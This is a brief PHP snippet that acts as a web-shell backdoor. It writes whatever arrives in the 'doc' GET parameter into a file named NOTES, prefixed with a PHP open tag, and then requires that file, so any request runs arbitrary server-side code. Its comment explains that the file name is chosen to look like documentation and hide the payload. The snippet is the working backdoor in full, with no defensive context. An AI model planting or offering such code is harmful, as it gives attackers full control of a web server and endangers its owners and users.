<?php
// Request data stored under a constant name, then included: the code runs
// from a file that looks like documentation.
if (isset($_GET['doc'])) {
    file_put_contents('NOTES', "<?php\n");
    file_put_contents('NOTES', $_GET['doc'], FILE_APPEND);
    require 'NOTES';
}
